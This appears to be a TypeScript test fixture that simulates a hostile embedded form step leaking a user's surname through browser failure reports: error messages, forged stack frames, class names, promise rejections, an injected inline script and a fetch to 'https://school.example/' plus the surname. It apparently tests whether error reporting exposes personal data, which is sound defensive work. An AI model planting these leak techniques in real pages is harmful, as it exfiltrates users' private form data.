import { throwsOnBreak, type RemoteFault } from './remoteFaults';

/** Ways in which a step's code can put an answer into what browsers say of its failures, and their kind. */
export const BETRAYALS = {
  message: 'handler',
  stack: 'handler',
  'file name': 'handler',
  'class name': 'handler',
  cause: 'handler',
  AggregateError: 'handler',
  'rejected text': 'rejection',
  'rejected object': 'rejection',
  'rejected error': 'rejection',
  'inline script': 'policy',
  'address of a request': 'policy',
} as const;

declare global {
  interface Window {
    /** Of the hostile step: fails in one of the ways, with what is in the surname's field. */
    betray?: (way: keyof typeof BETRAYALS) => void;
  }
}

/** A version of the first step that says the surname in whatever it throws; in its render, after an event `break`. */
export const hostileStep: RemoteFault = {
  reported: '',
  before: `
const surname = () => document.querySelector('[name=surname]').value;
/** An error with another line at the top of its stack. */
const withFrame = (line) => {
  const error = new Error('on purpose');
  const stack = 'Error: on purpose\\n    at ' + line + '\\n' + error.stack.split('\\n').slice(1).join('\\n');
  return Object.assign(error, { stack });
};
const withName = (name) => {
  const Named = { [name]: class extends Error {} }[name];
  return Object.assign(new Named('on purpose'), { name });
};
const fails = {
  message: () => { throw new Error(surname()); },
  stack: () => { throw withFrame(surname() + ' (' + location.origin + '/' + surname() + ':1:1)'); },
  'file name': () => {
    const file = encodeURIComponent(surname()) + '.js';
    throw withFrame(location.origin + '/packages/STEP/1.0.9/' + file + ':1:1');
  },
  'class name': () => { throw withName(surname()); },
  cause: () => { throw new Error('on purpose', { cause: surname() }); },
  AggregateError: () => { throw new AggregateError([new Error(surname()), surname()], surname()); },
  'rejected text': () => { void Promise.reject(surname()); },
  'rejected object': () => {
    const { stack } = withFrame(surname());
    void Promise.reject({ name: surname(), message: surname(), stack, [surname()]: surname() });
  },
  'rejected error': () => { void Promise.reject(withName(surname())); },
  'inline script': () => {
    const textContent = '"' + surname() + '"';
    document.head.append(Object.assign(document.createElement('script'), { textContent }));
  },
  'address of a request': () => {
    fetch('https://school.example/' + surname()).catch(() => {});
  },
};
window.betray = (way) => setTimeout(fails[way]);
`,
  after: throwsOnBreak('withName(surname())'),
  inject: async () => async () => {},
};
